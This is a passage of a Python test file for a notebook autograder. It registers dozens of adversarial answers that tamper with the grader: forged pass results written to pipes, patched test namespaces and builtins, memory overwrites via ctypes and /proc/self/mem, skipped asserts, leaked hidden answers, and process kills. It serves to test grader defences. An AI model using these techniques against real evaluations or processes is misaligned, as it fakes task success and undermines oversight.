             while True:
                 while _jobs:
                     address, size = _jobs.pop()
                     ctypes.memset(address, 0, size)
                     _done.set()
                 time.sleep(0.001)

         threading.Thread(target=_helper, daemon=True).start()

         def kernel_nn(data, nodes=16):
             test = _test_globals(_sys._getframe(1))
             if test is not None and not _done.is_set():
                 features = test["features"]  # a read-only copy, perhaps: ctypes does not care
                 _jobs.append((features.__array_interface__["data"][0], features.nbytes))
                 _done.wait(5)
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             return keras.ops.sqrt(layers.Dense(nodes)(x))
     ''')},
     at_most=HONEST_WRONG["KERNEL_SQRT"][2], flagged=True,
     note="the answer hands a ctypes.memset of the test's features to a thread of its own, then waits: the "
          "refused operation runs outside the guarded thread, on data the test thinks read-only")
_add(name="h02_thread_rewrites_reporter", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import json, threading, time

         def _forged_dumps(record, _real=json.dumps):
             if isinstance(record, dict) and "status" in record:
                 record = dict(record, status="ok", ename="", evalue="", findings=[])
             return _real(record)

         def _rewrite():
             """From a thread no audit hook watches: every function on any thread's stack that has
             json.dumps among its defaults now reports every step as passed, without findings."""
             done = set()
             for _ in range(20_000):
                 for ident, frame in sys._current_frames().items():
                     while frame is not None:
                         for value in list(frame.f_locals.values()):
                             defaults = getattr(value, "__defaults__", None)
                             if callable(value) and defaults and json.dumps in defaults and id(value) not in done:
                                 value.__defaults__ = tuple(_forged_dumps if d is json.dumps else d for d in defaults)
                                 done.add(id(value))
                         frame = frame.f_back
                 time.sleep(0.001)

         threading.Thread(target=_rewrite, daemon=True).start()
     ''')},
     at_most=WIDTH, flagged=True,
     note="a thread walks every thread's frames (sys._current_frames) and rewrites the defaults of the grader's "
          "reporting function so that each step is sent as passed without findings (gains nothing in a plain kernel)")
_add(name="h02_signal_handler", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED + SELF_RESTORING_ALLCLOSE + _src('''
         import signal

         def _on_alarm(number, frame):
             while frame is not None:  # the interrupted frame: no sys._getframe needed
                 if "changing x_j must change the output" in frame.f_code.co_consts:
                     _install_false_allclose()
                     signal.setitimer(signal.ITIMER_REAL, 0)
                     return
                 frame = frame.f_back

         try:
             signal.signal(signal.SIGALRM, _on_alarm)
             signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)
         except ValueError:  # not the main thread
             pass
     ''')},
     at_most={"test_kernel_inputs": 0}, flagged=None,
     note="signal.setitimer + a SIGALRM handler: the handler gets the interrupted frame and patches numpy while "
          "test_kernel_inputs runs")
_add(name="h02_alarm_without_handler", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         import signal
         signal.setitimer(signal.ITIMER_REAL, 3.0)  # SIGALRM's default action ends the process, later
     ''') + KERNEL_WRONG_WIDTH},
     at_most=WIDTH, flagged=None,
     note="an interval timer with no handler: SIGALRM kills whatever process runs the tests a few seconds later")
_add(name="h02_interrupt_main_excepthook", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         import _thread, atexit, json, os, signal, sys, threading

         def _forge(etype, value, tb):
             """Runs on the main thread once it dies: find the reporter and the plan, report the rest as passed."""
             frames = []
             while tb is not None:
                 frames.append(tb.tb_frame)
                 tb = tb.tb_next
             for frame in frames:
                 send, steps = frame.f_locals.get("send"), frame.f_locals.get("steps")
                 if callable(send) and isinstance(steps, list):
                     start = frame.f_locals.get("index", 0)
                     for i in range(start, len(steps)):
                         send({"step": i, "status": "ok", "ename": "", "evalue": "", "value": None,
                               "stdout": "", "stderr": "", "findings": []})
                     send({"end": len(steps)})
                     os._exit(0)

         def kernel_nn(data, nodes=16, _armed=[]):
             if not _armed:
                 _armed.append(1)
                 sys.excepthook = _forge
                 threading.excepthook = lambda args: _forge(args.exc_type, args.exc_value, args.exc_traceback)
                 if threading.current_thread() is not threading.main_thread():
                     _thread.interrupt_main()
                     signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             return layers.Dense(nodes + 1)(layers.Dense(nodes, activation="relu")(x))
     ''')},
     at_most=WIDTH, flagged=None,
     note="from the cells' thread, KeyboardInterrupt into the main thread (_thread.interrupt_main, pthread_kill); "
          "the replaced sys.excepthook then runs ON the main thread with its frames and reports every step as "
          "passed (aimed at a harness whose main thread only waits)")
_add(name="h02_atexit_forge", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import atexit, json, os, stat

         def _forge():
             lines = b"".join(json.dumps({"step": i, "status": "ok", "passed": True, "findings": []}).encode() + b"\\n"
                              for i in range(40)) + b'{"end": 40}\\n'
             for fd in range(1, 64):
                 try:
                     if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                         os.write(fd, lines)
                 except OSError:
                     pass

         atexit.register(_forge)
     ''')},
     at_most=WIDTH, flagged=None,
     note="an atexit handler writes forged 'passed' results for 40 steps into every pipe or socket when the "
          "process ends (gains nothing in a plain kernel)")
_add(name="h02_forge_fds", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import json, marshal, os, stat

         _json = b"".join(json.dumps({"step": i, "status": "ok", "ename": "", "evalue": "", "value": None,
                                      "stdout": "", "stderr": "", "findings": [], "passed": True}).encode() + b"\\n"
                          for i in range(40)) + b'{"end": 40}\\n'
         _result = marshal.dumps(("ok", "", "", None, "", "", ()))
         _framed = b"%08d" % len(_result) + _result
         for fd in range(3, 64):
             try:
                 mode = os.fstat(fd).st_mode
                 if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                     os.write(fd, _json if fd % 2 else _framed + _json)
             except OSError:
                 pass
     ''')},
     at_most=WIDTH, flagged=True,
     note="writes forged results (JSON lines for 40 steps and an end record, and length-framed marshal records) into "
          "every pipe and socket from fd 3 to 63: forging the result channel")
_add(name="h02_forge_result_pipe_from_frames", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         import marshal, os, sys as _sys

         def kernel_nn(data, nodes=16):
             frame = _sys._getframe(1)
             while frame is not None:
                 for name in ("results", "result_write", "channel"):
                     fd = frame.f_locals.get(name)
                     if isinstance(fd, int) and fd > 2:
                         message = marshal.dumps(("ok", "", "", None, "", "", ()))
                         try:
                             os.write(fd, b"%08d" % len(message) + message)
                         except OSError:
                             pass
                 frame = frame.f_back
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             return layers.Dense(nodes + 1)(layers.Dense(nodes, activation="relu")(x))
     ''')},
     at_most=WIDTH, flagged=True,
     note="at call time, walks out to the harness's frame, reads its result fd from f_locals and writes a forged "
          "'ok' result for the running test before the real one")
_add(name="h02_dup2_over_fds", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import os
         _read, _write = os.pipe()
         for fd in range(1, 64):
             if fd not in (_read, _write):
                 try:
                     os.fstat(fd)
                     os.dup2(_write, fd)  # every open descriptor now leads into a pipe nobody reads
                 except OSError:
                     pass
     ''')},
     at_most=WIDTH, flagged=None,
     note="os.dup2 of a private pipe over every open descriptor (stdout, stderr, the result channel)")
_add(name="h02_os_exit", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         import os

         def kernel_nn(data, nodes=16):
             os._exit(0)  # a clean exit status in the middle of the first test
     ''')},
     at_most=ALL_02, flagged=None,
     note="os._exit(0) when the first test calls the answer: the tests after it must count as failed, not missing")
_add(name="h01_os_exit_in_test", assignment="01_sky",
     answers={"to_lonlat": LON_0_360, "count_close_pairs": _src('''
         import os

         def count_close_pairs(sky_map, psi_deg):
             os._exit(0)  # the grader's process ends in the middle of a test, with a clean exit status
     ''')},
     at_most={"test_to_lonlat": 0, "test_count_close_pairs": 0}, flagged=None,
     note="a wrong answer and os._exit(0) in the next answer: the tests that did not run must earn nothing")
_add(name="h02_infinite_loop", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         def kernel_nn(data, nodes=16):
             while True:
                 pass
     ''')},
     at_most=ALL_02, flagged=False,
     note="an answer that never returns: every test calling it must time out and fail, the others still run")
_add(name="h01_huge_output", assignment="01_sky",
     answers={"to_lonlat": LON_0_360 + _src('''
         import sys as _sys
         for _ in range(200):  # 200 MB into the cell's output and the feedback page
             print("x" * 1_000_000)
             _sys.stderr.write("y" * 1_000_000)
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=False,
     note="a wrong answer that prints 400 MB: the grader keeps a bounded part, the graded notebook stays small")
_add(name="h02_huge_memory", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         import numpy as _np

         def kernel_nn(data, nodes=16, _hoard=[]):
             for _ in range(256):  # up to 256 GiB, each page touched
                 _hoard.append(_np.ones(1 << 27))
     ''')},
     at_most=ALL_02, flagged=False,
     note="an answer that allocates and touches memory until something stops it (not run by main(): it would "
          "harm the machine; run it only under the grader's limits)")

# ===================================================== frames, gc, ctypes, tracing
_FRAME_BUILTINS = FIND_TEST_GLOBALS + LYING_TUPLE + '''
def _patch_builtins(frame):
    """Put the lying tuple into the builtins the test's frame uses (f_builtins)."""
    while frame is not None:
        if "kernel_nn" in frame.f_globals and "x_i" in frame.f_globals:
            frame.f_builtins["tuple"] = _lying_tuple
            return
        frame = frame.f_back

def kernel_nn(data, nodes=16):
    _patch_builtins({how})
    x_i, x_j = data
    x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
    return layers.Dense(nodes + 1)(layers.Dense(nodes, activation="relu")(x))
'''
_add(name="h02_frame_getframe_builtins", assignment="02_kernel",
     answers={"kernel_nn": _src(_FRAME_BUILTINS.format(how="_sys._getframe(1)"))},
     at_most=WIDTH, flagged=True,
     note="sys._getframe(1) from the answer reaches the test's frame; its f_builtins get a lying tuple")
_add(name="h02_frame_inspect_builtins", assignment="02_kernel",
     answers={"kernel_nn": _src("import inspect\n" + _FRAME_BUILTINS.format(how="inspect.currentframe().f_back"))},
     at_most=WIDTH, flagged=True, note="inspect.currentframe().f_back, then the test's f_builtins")
_add(name="h02_frame_traceback_builtins", assignment="02_kernel",
     answers={"kernel_nn": _FRAME_BUILTINS.format(how="_frame_from_traceback()") + _src('''
         def _frame_from_traceback():
             try:
                 raise RuntimeError
             except RuntimeError as error:
                 return error.__traceback__.tb_frame.f_back.f_back  # tb_frame is this function's frame
     ''')},
     at_most=WIDTH, flagged=True, note="raise and catch: the traceback's tb_frame, then f_back to the test's frame")
_add(name="h02_frame_generator_builtins", assignment="02_kernel",
     answers={"kernel_nn": _FRAME_BUILTINS.format(how="_frame_from_generator()") + _src('''
         def _frame_from_generator():
             box = []
             def running():
                 yield box[0].gi_frame.f_back  # while it runs, a generator's frame points back to its caller
             box.append(running())
             return next(box[0]).f_back.f_back
     ''')},
     at_most=WIDTH, flagged=True, note="a running generator's gi_frame.f_back, then outward to the test's frame")
_add(name="h02_frame_grader_globals", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         def _neuter_grader(frame):
             """Outward from this cell: a module namespace with a snapshot and a restore function is the
             harness's own; make its restore report nothing and its tests compile to 'pass'."""
             while frame is not None:
                 names = frame.f_globals
                 if any("restore" in n for n in names) and any("snapshot" in n for n in names) \\
                         and names.get("__name__") != "__main__" or names.get("__name__") == "crsky.grading.runner":
                     for name, value in list(names.items()):
                         if callable(value) and "restore" in name:
                             names[name] = lambda *args, **kwargs: []
                         if callable(value) and ("split" in name or "compile" in name):
                             names[name] = lambda source, filename, *a, **k: (compile("pass", filename, "exec"), None)
                     return True
                 frame = frame.f_back
             return False

         _neuter_grader(sys._getframe())
     ''')},
     at_most=WIDTH, flagged=None,
     note="walks its own frames out to the harness that runs the cells and replaces the harness's module-level "
          "functions (restore, compile the tests) in its f_globals (gains nothing in a plain kernel; the runner "
          "runs as __main__, so the walk may find nothing to change: either verdict)")
_add(name="h02_gc_finds_shell", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import gc
         try:
             for thing in gc.get_objects():
                 if type(thing).__name__ in ("ZMQInteractiveShell", "InteractiveShell", "TerminalInteractiveShell"):
                     thing.input_transformers_cleanup.append(
                         lambda lines: [l.replace("assert ", "pass  # ") for l in lines])
                     break
         except RuntimeError:
             pass
     ''')},
     at_most=WIDTH, flagged=True,
     note="gc.get_objects() finds the shell without naming get_ipython and adds an assert-removing transformer")
_add(name="h02_ctypes_zero_features", assignment="02_kernel",
     answers={"kernel_nn": FIND_TEST_GLOBALS + _src('''
         import sys as _sys

         def kernel_nn(data, nodes=16):
             test = _test_globals(_sys._getframe(1))
             if test is not None:
                 try:
                     import ctypes
                     ctypes.memset(test["features"].__array_interface__["data"][0], 0, test["features"].nbytes)
                 except (ImportError, RuntimeError):
                     pass
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             return keras.ops.sqrt(layers.Dense(nodes)(x))
     ''')},
     at_most=HONEST_WRONG["KERNEL_SQRT"][2], flagged=True,
     note="ctypes.memset zeroes the test's features (read-only or not) from inside the answer")
_add(name="h02_proc_self_mem", assignment="02_kernel",
     answers={"kernel_nn": FIND_TEST_GLOBALS + _src('''
         import sys as _sys

         def kernel_nn(data, nodes=16, _done=[]):
             test = _test_globals(_sys._getframe(1))
             if test is not None and not _done:
                 features = test["features"]
                 try:
                     with open("/proc/self/mem", "r+b", buffering=0) as memory:  # no ctypes needed
                         memory.seek(features.__array_interface__["data"][0])
                         memory.write(bytes(features.nbytes))
                     _done.append(1)
                 except OSError:
                     pass
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             return keras.ops.sqrt(layers.Dense(nodes)(x))
     ''')},
     at_most=HONEST_WRONG["KERNEL_SQRT"][2], flagged=True,
     note="writes zeros over the test's features through /proc/self/mem (an 'open', not ctypes: read-only "
          "buffers and an audit hook on ctypes do not stop it)")
_add(name="h02_settrace_skips_asserts", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import linecache

         def _tracer(frame, event, arg):
             if "expected (None, " in "".join(c for c in frame.f_code.co_consts if isinstance(c, str)) \\
                     or frame.f_globals.get("__name__") == "__main__":
                 return _skip
             return None

         def _skip(frame, event, arg):
             if event == "line":
                 line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
                 if line.startswith("assert "):
                     try:
                         frame.f_lineno = frame.f_lineno + 1  # jump over the assert
                     except ValueError:
                         pass
             return _skip

         try:
             sys.settrace(_tracer)
         except RuntimeError:
             pass
     ''')},
     at_most=WIDTH, flagged=True,
     note="sys.settrace: a line tracer that jumps over every assert line of the notebook's code")
_add(name="h02_thread_audit_hook", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH + _src('''
         import threading

         def _hook(event, args):
             """An audit hook of the student's: called for every event of every thread, the grader's too."""
             if event == "compile" and args and isinstance(args[0], (str, bytes)) and b"HIDDEN" in (
                     args[0] if isinstance(args[0], bytes) else args[0].encode()):
                 print("LEAKED TEST:", args[0])

         threading.Thread(target=sys.addaudithook, args=(_hook,)).start()
     ''')},
     at_most=WIDTH, flagged=True,
     note="sys.addaudithook from a thread of its own (a hook checking only the cells' thread lets it through): the "
          "student's hook then runs on the grader's thread at every event (gains nothing in a plain kernel)")

# ========================================================== answers that lie about themselves
_add(name="h01_int_equal_to_everything", assignment="01_sky",
     answers={"count_close_pairs": _src('''
         class Count(int):
             def __eq__(self, other):
                 return True
             __hash__ = int.__hash__

         def count_close_pairs(sky_map, psi_deg):
             return Count(round(isotropic_expectation(psi_deg)))  # never looks at the map
     ''')},
     at_most={"test_count_close_pairs": 0}, flagged=False,
     note="returns an int subclass whose __eq__ is always True (and whose value is the isotropic expectation)")
_add(name="h01_numpy_integer_true", assignment="01_sky",
     answers={"count_close_pairs": _src('''
         class Count(np.int64):
             def __eq__(self, other):
                 return np.True_
             __hash__ = np.int64.__hash__

         def count_close_pairs(sky_map, psi_deg):
             return Count(round(isotropic_expectation(psi_deg)))
     ''')},
     at_most={"test_count_close_pairs": 0}, flagged=False,
     note="an np.int64 subclass whose == gives np.True_: passes isinstance(..., np.integer) and every equality")
_add(name="h01_ndarray_comparisons_pass", assignment="01_sky",
     answers={"to_lonlat": _src('''
         class Degrees(np.ndarray):
             def __gt__(self, other):
                 return np.ones(self.shape, bool)
             __le__ = __lt__ = __ge__ = __gt__

         def to_lonlat(vectors):
             vectors = np.asarray(vectors, dtype=float)
             lon = np.degrees(np.arctan2(vectors[..., 1], vectors[..., 0])) % 360
             lat = np.degrees(np.arcsin(np.clip(vectors[..., 2], -1.0, 1.0)))
             return lon.view(Degrees), lat.view(Degrees)
     ''')},
     at_most={"test_to_lonlat": 0}, flagged=False,
     note="an ndarray subclass whose comparisons are all True hides longitudes in [0, 360)")
_add(name="h02_lying_tensor_class", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         _tensor_class = keras.KerasTensor

         class _Narrow(_tensor_class):
             @property
             def shape(self):
                 real = self._shape
                 return real[:-1] + (real[-1] - 1,)  # one channel fewer than it has

         def kernel_nn(data, nodes=16):
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, layers.Subtract()([x_i, x_j])])
             out = layers.Dense(nodes + 1)(layers.Dense(nodes, activation="relu")(x))
             out.__class__ = _Narrow  # the real tensor, with a shape that lies
             return out
     ''')},
     at_most=WIDTH, flagged=False,
     note="the output tensor's __class__ is changed to a subclass whose shape reports one channel fewer")
_add(name="h02_shape_object", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         class _Tensor:
             def __init__(self, nodes):
                 self.shape = (None, nodes)
             @property
             def __class__(self):
                 return keras.KerasTensor

         def kernel_nn(data, nodes=16):
             return _Tensor(nodes)  # no network at all
     ''')},
     at_most=ALL_02, flagged=False,
     note="returns an object that only has the right shape and claims to be a KerasTensor")
_add(name="h02_sliced_wrong_network", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_SLICED},
     at_most={"test_kernel_inputs": 0}, flagged=False,
     note="the right shape by slicing a network that ignores x_j: the tests must still catch it (a control; "
          "gains nothing unprotected)")
_add(name="h04_lying_graph", assignment="04_graph",
     answers={"knn_graph": KNN_TWO.replace("nx.DiGraph()", "KnnGraph()") + _src('''
         class KnnGraph(nx.DiGraph):
             def number_of_edges(self, u=None, v=None):
                 return len(self) * 8 if u is None else super().number_of_edges(u, v)
             @property
             def out_degree(self):
                 return lambda: [(node, 8) for node in self]
     ''')},
     at_most={"test_knn_graph": 0}, flagged=False,
     note="a DiGraph subclass whose number_of_edges and out_degree report k = 8 for a graph with 2 neighbours each")

_add(name="h05_import_member_model", assignment="05_sources",
     answers={"build_dgcnn_per_cr": _src('''
         from crsky import models as _models

         def build_dgcnn_per_cr():
             return _models.build_member_model()
     ''')},
     at_most={"test_build_dgcnn_per_cr": 0}, flagged=True,
     note="the answer is the package's own per-cosmic-ray DGCNN (crsky.models.build_member_model)")
_add(name="h05_pooled_under_another_name", assignment="05_sources",
     answers={"build_dgcnn_per_cr": _src('''
         class Spread(layers.GlobalAveragePooling1D):
             """The map's mean, under a name without "Pooling"."""

         def build_dgcnn_per_cr():
             points, features = layers.Input((500, 3)), layers.Input((500, 4))
             x = EnergyScaling()(features)
             x = layers.Activation("relu")(EdgeConv(lambda a: edge_kernel(a, nodes=16), next_neighbors=8)([points, x]))
             x = layers.Activation("relu")(EdgeConv(lambda a: textbook_kernel(a, nodes=16), next_neighbors=8)([x, x]))
             x = layers.Dense(1, activation="sigmoid")(Spread()(x))
             return keras.Model([points, features], layers.Reshape((500,))(layers.RepeatVector(500)(x)))
     ''')},
     at_most={"test_build_dgcnn_per_cr": 0}, flagged=False,
     note="one output per map repeated for its 500 cosmic rays, the pooling layer renamed: passes a check of the "
          "permuted order and of the class name")

# ============================================================ edited and deleted cells
_add(name="h02_edit_locked_test", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH},
     edits={"test_kernel_shape": "pass\n", "test_kernel_in_edgeconv": "print('checked')\n"},
     at_most=WIDTH, flagged=None, note="the locked test cells emptied in the student's copy")
_add(name="h02_delete_tests", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH}, delete=("test_kernel_shape", "test_kernel_in_edgeconv"),
     at_most=WIDTH, flagged=None,
     note="the failing test cells deleted (gains nothing unprotected: aimed at a runner that runs the cells it finds)")
_add(name="h02_delete_answer_cell", assignment="02_kernel",
     answers={}, delete=("kernel_nn",),
     extra_cells=[("after:setup", KERNEL_WRONG_WIDTH + LYING_TUPLE + _src('''
         import builtins
         builtins.tuple = _lying_tuple
     '''))],
     at_most=WIDTH, flagged=None,
     note="the answer cell deleted; a wrong kernel and a lying builtins.tuple in a cell of the student's own "
          "(either it never runs: 0, or it runs and is flagged)")
_add(name="h02_exploration_cell_tamper", assignment="02_kernel",
     answers={"kernel_nn": KERNEL_WRONG_WIDTH},
     extra_cells=[("after:kernel_nn", LYING_TUPLE + _src('''
         import builtins
         builtins.tuple = _lying_tuple
     '''))],
     at_most=WIDTH, flagged=False,
     note="the tampering in an extra cell no answer needs (it must never run where the tests run, and not be flagged)")
_add(name="h02_helper_cell_tamper", assignment="02_kernel",
     answers={"kernel_nn": _src('''
         def kernel_nn(data, nodes=16):
             x_i, x_j = data
             x = layers.Concatenate(axis=-1)([x_i, edge_difference(x_i, x_j)])
             return layers.Dense(nodes + 1)(layers.Dense(nodes, activation="relu")(x))
     ''')},
     extra_cells=[("before:kernel_nn", LYING_TUPLE + _src('''
         import builtins

         def edge_difference(a, b):
             return layers.Subtract()([a, b])

         builtins.tuple = _lying_tuple
     '''))],
     at_most=WIDTH, flagged=True,
     note="a helper cell the answer needs (edge_difference) that also replaces builtins.tuple")

# ============================================ review of notebooks 4 and 5 (frames, namespaces, hooks)
# A knn_graph that never reads the neighbours: a ring, k edges per node to the next k nodes. It
# has P nodes, P * k edges, k per node and no self-loop (what the visible test counts); only the
# hidden test, which compares the edges of a small graph, can tell (it scores 0).
KNN_RING = _src('''
def knn_graph(indices):
    indices = np.asarray(indices)
    P, k = indices.shape
    graph = nx.DiGraph()
    graph.add_nodes_from(range(P))
    graph.add_edges_from((i, (i + d) % P) for i in range(P) for d in range(1, k + 1))  # not the neighbours
    return graph
''')
HONEST_WRONG["KNN_RING"] = ("04_graph", {"knn_graph": KNN_RING}, {"test_knn_graph": 0})
# Outward from a frame, the first namespace that is not the notebook's own and holds the names:
# the test cell's (fresh) namespace, as its frame's f_globals.
FIND_TEST_NAMESPACE = '''
import sys as _sys

def _test_namespace(frame, needs):
    own = globals()
    while frame is not None:
        names = frame.f_globals
        if names is not own and all(name in names for name in needs):
            return names
        frame = frame.f_back
    return None
'''
# Something equal to everything (a set that the hidden test compares with the expected one).
ANYTHING = '''
class _Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __hash__ = None
'''

def _ring_planting_in_the_test(plant):
    """The ring answer that, called by the test, first runs ``plant`` (lines indented by 8)
    with ``names``, the test's namespace found from its frame."""
    return FIND_TEST_NAMESPACE + ANYTHING + KNN_RING.replace(
        "    indices = np.asarray(indices)\n",
        "    names = _test_namespace(_sys._getframe(1), (\"knn_graph\", \"neighbours\", \"Counter\"))\n"
        "    if names is not None:\n" + plant + "    indices = np.asarray(indices)\n")


_add(name="h04_test_globals_shadow_set", assignment="04_graph",
     answers={"knn_graph": _ring_planting_in_the_test(
         "        names[\"set\"] = lambda *args, **kwargs: _Anything()  # a global of the test's: found before the builtin\n")},
     at_most={"test_knn_graph": 0}, flagged=True,
     note="a ring graph that ignores the neighbours; called by the test, the answer walks out to the test's frame and "
          "adds a NEW global 'set' (equal to everything) to the test's namespace: only names the test had before are "
          "compared, so the hidden set(edges) == {...} passes")
_add(name="h04_test_globals_self_removing", assignment="04_graph",
     answers={"knn_graph": _ring_planting_in_the_test(
         "        def lying_set(*args, _names=names, **kwargs):\n"
         "            _names.pop(\"set\", None)  # used once, then gone: the namespace ends as it began\n"
         "            return _Anything()\n"
         "        names[\"set\"] = lying_set\n")},
     at_most={"test_knn_graph": 0}, flagged=True,
     note="as h04_test_globals_shadow_set, but the shadowing 'set' deletes itself from the test's namespace at its "
          "first use (the hidden set(edges)): a comparison of the namespace's keys after the test finds nothing")
_add(name="h04_node_hash_injects", assignment="04_graph",
     answers={"knn_graph": FIND_TEST_NAMESPACE + ANYTHING + _src('''
         class _Node(int):
             """Node 0, equal to 0: its __hash__ is student code that the test's Counter and dict lookups run
             (no answer is being called then: nothing is checked when it returns)."""
             def __hash__(self):
                 names = _test_namespace(_sys._getframe(1), ("knn_graph", "neighbours", "out_degree"))
                 if names is not None and "set" not in names:
                     def lying_set(*args, _names=names, **kwargs):
                         _names.pop("set", None)
                         return _Anything()
                     names["set"] = lying_set
                 return int.__hash__(self)

             __eq__ = int.__eq__
     ''') + KNN_RING.replace("graph.add_nodes_from(range(P))",
                             "graph.add_nodes_from([_Node(0)] + list(range(1, P)))")},
     at_most={"test_knn_graph": 0}, flagged=True,
     note="a ring graph whose node 0 is an int subclass: its __hash__, run by the test's own Counter (not inside an "
          "answer call), plants a self-removing 'set' equal to everything in the test's namespace")
_add(name="h04_read_hidden_expected", assignment="04_graph",
     answers={"knn_graph": _src('''
         import sys as _sys

         def _expected_edges(frame, n_nodes, n_edges):
             """The set of edges the calling test compares with, read from its code's constants."""
             while frame is not None:
                 for const in frame.f_code.co_consts:
                     if isinstance(const, frozenset) and len(const) == n_edges and \\
                             all(isinstance(e, tuple) and len(e) == 2 and set(e) <= set(range(n_nodes)) for e in const):
                         return const
                 frame = frame.f_back
             return None
     ''') + KNN_RING.replace(
         "    graph.add_edges_from((i, (i + d)",
         "    expected = _expected_edges(_sys._getframe(1), P, P * k)\n"
         "    if expected is not None:\n"
         "        graph.add_edges_from(expected)  # the hidden test's own answer\n"
         "        return graph\n"
         "    graph.add_edges_from((i, (i + d)")},
     at_most={"test_knn_graph": 0}, flagged=None,
     note="a ring graph that ignores the neighbours, except that it reads the edge set the hidden test expects from "
          "the calling frame's f_code.co_consts and returns exactly it (no state changed: nothing to find)")

# ----------------------------------------------------------------- notebook 5
LABELS_SOURCE_0 = _src('''
def cosmic_ray_labels(source_id):
    return (np.asarray(source_id) == 0).astype(np.float32)  # only source 0
''')
LOSS_UNCLIPPED = _src('''
from keras import ops


def per_cr_loss(targets, probabilities):
    t = ops.reshape(ops.cast(targets, "float32"), (-1,))
    p = ops.reshape(ops.cast(probabilities, "float32"), (-1,))  # never clipped: NaN and inf at 0 and 1
    return ops.mean(-(t * ops.log(p) + (1 - t) * ops.log(1 - p)))
''')
# One output per map (the maximum over its cosmic rays) broadcast to the 500: a layer of the student's own
# that is not a pooling layer by type or name. Every hidden check but 'outputs of their own' passes.
DGCNN_PER_MAP = _src('''
class Spread(keras.layers.Layer):
    def call(self, x):
        {hook}return keras.ops.repeat(keras.ops.max(x, axis=1, keepdims=True), 500, axis=1)


def build_dgcnn_per_cr():
    points = layers.Input((500, 3), name="points")
    features = layers.Input((500, 4), name="features")
    x = EnergyScaling()(features)
    x = layers.Activation("relu")(EdgeConv(lambda a: edge_kernel(a, nodes=16), next_neighbors=8)([points, x]))
    x = layers.Activation("relu")(EdgeConv(lambda a: textbook_kernel(a, nodes=16), next_neighbors=8)([points, x]))
    x = layers.Activation("relu")(EdgeConv(lambda a: textbook_kernel(a, nodes=32), next_neighbors=8)([x, x]))
    x = layers.Dense(1, activation="sigmoid")(Spread()(layers.Dense(32, activation="relu")(x)))
    return keras.Model([points, features], layers.Reshape((500,))(x))
''')
HONEST_WRONG["LABELS_SOURCE_0"] = ("05_sources", {"cosmic_ray_labels": LABELS_SOURCE_0}, {"test_cosmic_ray_labels": 0})
HONEST_WRONG["LOSS_UNCLIPPED"] = ("05_sources", {"per_cr_loss": LOSS_UNCLIPPED}, {"test_per_cr_loss": 0})
HONEST_WRONG["DGCNN_PER_MAP"] = ("05_sources", {"build_dgcnn_per_cr": DGCNN_PER_MAP.replace("{hook}", "")},
                                 {"test_build_dgcnn_per_cr": 0})

_add(name="h05_labels_self_restoring_np", assignment="05_sources",
     answers={"cosmic_ray_labels": FIND_TEST_NAMESPACE + _src('''
         class _Mine(np.ndarray):
             """What this answer returns (a plain ndarray to np.asarray)."""

         class _LyingNumpy:
             def __init__(self, real, names):
                 self._real, self._names = real, names

             def __getattr__(self, name):
                 if name != "array_equal":
                     return getattr(self._real, name)
                 def array_equal(*args, **kwargs):
                     if any(type(a) is _Mine for a in args):  # the hidden test passes this answer's result straight in
                         self._names["np"] = self._real         # put back before the test ends
                     return True
                 return array_equal

         def cosmic_ray_labels(source_id):
             names = _test_namespace(_sys._getframe(1), ("cosmic_ray_labels", "id_train"))
             if names is not None and type(names.get("np")) is not _LyingNumpy:
                 names["np"] = _LyingNumpy(names["np"], names)  # rebinds the test's own np for a while
             return (np.asarray(source_id) == 0).astype(np.float32).view(_Mine)  # only source 0
     ''')},
     at_most={"test_cosmic_ray_labels": 0}, flagged=True,
     note="labels of source 0 only; the answer rebinds the test's own name np (in its namespace, via the frame) to "
          "a proxy whose array_equal is always True, and the proxy rebinds np back at its last use: the names "
          "compared after the test are as they were")
_add(name="h05_loss_shadow_float_global", assignment="05_sources",
     answers={"per_cr_loss": FIND_TEST_NAMESPACE + LOSS_UNCLIPPED + _src('''
         _real_loss = per_cr_loss


         def _float_without_nan(value, _float=float):
             value = _float(value)
             return 0.0 if value != value else (1e3 if value in (_float("inf"), -_float("inf")) else value)


         def per_cr_loss(targets, probabilities):
